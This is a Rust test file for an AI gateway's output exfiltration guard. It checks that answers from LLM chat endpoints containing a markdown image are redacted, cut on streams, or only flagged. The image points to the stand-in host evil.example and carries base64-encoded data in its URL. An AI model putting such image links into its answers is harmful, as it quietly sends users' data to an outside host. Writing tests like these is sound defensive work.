//! Carriers of data in answers, through the whole product.

use crate::harness::Product;
use serde_json::{Value, json};

/// A picture whose address says what nobody shall know.
const CARRIER: &str = "![chart](https://evil.example/p.png?d=VGhlIHBhc3N3b3JkIGlzIG5vdCB0b2xk)";

fn bodies(said: &str, stream: bool) -> [(&'static str, Value); 3] {
    let messages = json!([{"role": "user", "content": said}]);
    [
        ("/v1/chat/completions", json!({"model": "gpt-4o", "stream": stream, "messages": messages})),
        ("/v1/messages", json!({"model": "claude-x", "max_tokens": 9, "stream": stream, "messages": messages})),
        ("/v1/responses", json!({"model": "gpt-4o", "stream": stream, "input": said})),
    ]
}

fn policy(action: &str) -> String {
    format!(
        "policies: {{ chain: [exfiltration-guard, audit-logger] }}\npolicy:\n  exfiltration-guard: {{ action: {action}, when: {{ direction: output }} }}\n"
    )
}

#[test]
fn a_picture_that_carries_data_is_taken_out_of_an_answer_and_never_whole_on_a_stream() {
    let said = format!("#say=Here_it_is:_{CARRIER}_and_that_is_all.");
    let product = Product::with(&policy("redact"), "");
    for (path, body) in bodies(&said, false) {
        let answer = product.ask(path, &body);
        assert!(answer.text.contains("[REMOTE_IMAGE] and that is all"), "{path}: {}", answer.text);
        let event = product.event_of(&answer);
        assert_eq!((&event["decision"], &event["type"]), (&json!("redacted"), &json!("markdown_exfil")), "{event:#}");
    }
    for (path, body) in bodies(&said, true) {
        let answer = product.ask(path, &body);
        let whole = crate::gateway::reassembled(&answer.text);
        assert!(!whole.contains(CARRIER) && !whole.contains("that is all"), "{path}: {whole}");
        assert!(answer.text.contains("content_blocked"), "{path}: {}", answer.text);
        let event = product.event_of(&answer);
        assert_eq!((&event["decision"], &event["outcome"]), (&json!("blocked"), &json!("cut")), "{event:#}");
        assert_eq!(event["category"], json!("data_exfiltration"), "{event:#}");
    }
}

#[test]
fn where_carriers_are_only_flagged_answers_pass_whole() {
    let product = Product::with(&policy("flag"), "");
    for stream in [false, true] {
        for (path, body) in bodies(&format!("#say=See:_{CARRIER}_there."), stream) {
            let answer = product.ask(path, &body);
            assert!(crate::gateway::reassembled(&answer.text).contains("there"), "{path}: {}", answer.text);
            let event = product.event_of(&answer);
            assert_eq!(
                (&event["decision"], &event["type"]),
                (&json!("allowed"), &json!("markdown_exfil")),
                "{event:#}"
            );
            assert_eq!(event["policies_triggered"], json!(["exfiltration-guard"]), "{event:#}");
        }
    }
}
